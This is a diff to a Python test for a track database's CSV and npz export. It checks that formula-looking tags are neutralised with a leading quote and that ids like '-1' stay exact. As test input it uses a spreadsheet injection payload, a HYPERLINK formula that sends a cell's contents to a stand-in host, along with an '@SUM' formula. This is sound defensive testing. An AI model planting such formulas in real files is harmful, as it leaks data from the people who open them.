@@ -110,8 +110,8 @@ def test_export_errors_are_one_line(embedded_db, args, message):
 
 
 def test_csv_cells_run_no_formula_in_a_spreadsheet(store_copy, tmp_path):
-    """A tag like =HYPERLINK(...) became a live formula when the CSV was opened in a spreadsheet: such text cells
-    start with an added ', negative vector components do not, and the npz keeps every string as it is."""
+    """A tag like =HYPERLINK(...) became a live formula when the CSV was opened in a spreadsheet: such tags
+    start with an added ', ids and negative vector components do not, and the npz keeps every string as it is."""
     ids, _ = store_copy.vectors.matrix("descriptors")
     tags = {"title": '=HYPERLINK("http://x.example/?"&A1,"click")', "artist": "@SUM(1+1)", "genre": "-5 dB"}
     for column, text in tags.items():
@@ -122,6 +122,13 @@ def test_csv_cells_run_no_formula_in_a_spreadsheet(store_copy, tmp_path):
     with open(tmp_path / "d.csv", newline="", encoding="utf-8") as f:
         rows = {r["track_id"]: r for r in csv.DictReader(f)}
     assert {c: rows[ids[0]][c] for c in tags} == {c: "'" + t for c, t in tags.items()}
+    # The keys are kept exact: an id that looks like a number or a handle still joins.
+    store_copy.db.execute("UPDATE tracks SET id = '-1' WHERE id = ?", [ids[1]])
+    store_copy.db.execute("UPDATE vectors SET track_id = '-1' WHERE track_id = ?", [ids[1]])
+    store_copy.db.conn.commit()
+    export_space(store_copy, "descriptors", tmp_path / "d.csv")
+    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as f:
+        assert "-1" in {r["track_id"] for r in csv.DictReader(f)}
     assert any(float(v) < 0 for r in rows.values() for k, v in r.items() if k.startswith("v"))
     data = np.load(tmp_path / "d.npz")
     assert {c: str(data[c][0]) for c in tags} == tags
